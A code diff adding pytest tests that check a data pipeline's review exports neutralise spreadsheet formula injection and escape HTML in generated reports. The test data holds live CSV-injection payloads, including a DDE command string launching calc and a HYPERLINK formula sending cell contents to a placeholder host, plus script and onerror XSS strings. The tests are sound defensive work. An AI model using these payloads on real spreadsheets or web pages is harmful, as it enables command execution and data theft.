@@ -217,7 +217,8 @@ def test_evaluate_sheet_and_gate_round_trip(spark, corpus_docs, tmp_path):
     assert all(r["verdict"] == "" and r["reason"] == "" for r in jsonl + rows)
     texts = {d["id"]: d["text"] for d in corpus_docs}
     assert all(r["text"] == texts[r["id"]] for r in jsonl)
-    assert all(r["text"] == texts[r["id"]][:500] for r in rows)
+    leads = tuple("=+-@\t\r")   # a spreadsheet formula's first characters (OWASP): shown with an apostrophe
+    assert all(r["text"] == ("'" if texts[r["id"]].startswith(leads) else "") + texts[r["id"]][:500] for r in rows)
     assert (out / "report.html").read_text().count("data:image/png;base64,") >= 2
 
     # reviewers label the CSV: one unqualified document fails the 0.1% gate
@@ -250,3 +251,51 @@ def test_evaluate_sheet_and_gate_round_trip(spark, corpus_docs, tmp_path):
         w.writerows(foreign)
     with pytest.raises(ValueError, match="not in this run's sample"):
         run_gate(out, labelled, cfg)
+
+
+def test_review_csv_cells_never_start_a_formula_and_labels_read_back(spark, corpus_docs, tmp_path):
+    """Text, source and url that begin like spreadsheet formulas reach review.csv as text (a leading apostrophe);
+    reviewers' labels read back with the original values, and the gate accepts them; review.jsonl is untouched."""
+    import pyarrow as pa
+
+    leads = ("=", "+", "-", "@", "\t", "\r")
+    bodies = [d["text"] for d in corpus_docs if d["lang"] == "en"][:12]
+    hostile = [f"{lead}HYPERLINK(\"http://x.test/?\"&A1,\"click\") " + body for lead, body in zip(leads * 2, bodies)]
+    t = pa.table({"id": [f"{'-' if i % 2 else '@'}doc{i}" for i in range(len(hostile))],
+                  "source": ["=cmd|' /C calc'!A0"] * len(hostile), "url": ["+1+1"] * len(hostile), "text": hostile,
+                  "lang": ["en"] * len(hostile), "lang_score": pa.array([0.9] * len(hostile), pa.float32()),
+                  "quality": ["high"] * len(hostile)})
+    df = spark.createDataFrame(t.to_pandas(), "id string, source string, url string, text string, lang string, "
+                                              "lang_score float, quality string")
+    out = tmp_path / "de"
+    evaluate(spark, df, dict(CFG, sample_share=1.0, min_per_stratum=100), out, stage_dirs=(), dedup_cfg=DEDUP)
+    with open(out / "review.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == len(hostile)
+    cells = [v for r in rows for v in r.values() if v]
+    assert cells and not [v for v in cells if v.startswith(leads)]
+    assert {r["source"] for r in rows} == {"'=cmd|' /C calc'!A0"} and {r["url"] for r in rows} == {"'+1+1"}
+    jsonl = [json.loads(l) for l in open(out / "review.jsonl", encoding="utf-8")]
+    assert sorted(r["text"] for r in jsonl) == sorted(hostile)          # the full-text sheet keeps the values
+    for r in rows:
+        r["verdict"] = "ok"
+    labelled = tmp_path / "reviewed.csv"
+    with open(labelled, "w", newline="", encoding="utf-8") as f:
+        w = csv.DictWriter(f, fieldnames=list(rows[0]))
+        w.writeheader()
+        w.writerows(rows)
+    d = run_gate(out, labelled, dict(CFG, gate_on="point"))   # ids come back as written: all in the sample
+    assert d["passed"] and d["reviewed"] == len(hostile)
+
+    # a reviewer's reason holding markup reaches both reports as text, never as a tag
+    rows[0]["verdict"], rows[0]["reason"] = "bad", "<script>alert(1)</script> <img src=x onerror=alert(2)> | x"
+    with open(labelled, "w", newline="", encoding="utf-8") as f:
+        w = csv.DictWriter(f, fieldnames=list(rows[0]))
+        w.writeheader()
+        w.writerows(rows)
+    d = run_gate(out, labelled, dict(CFG, gate_on="point"))
+    assert not d["passed"] and "<script>" in json.dumps(d["unqualified_by"]["reason"])
+    for name in ("report.md", "report.html"):
+        page = (out / name).read_text(encoding="utf-8").lower()
+        assert "<script" not in page and "<img src=x" not in page, name   # the plots are <img src='data:...'>
+        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page, name
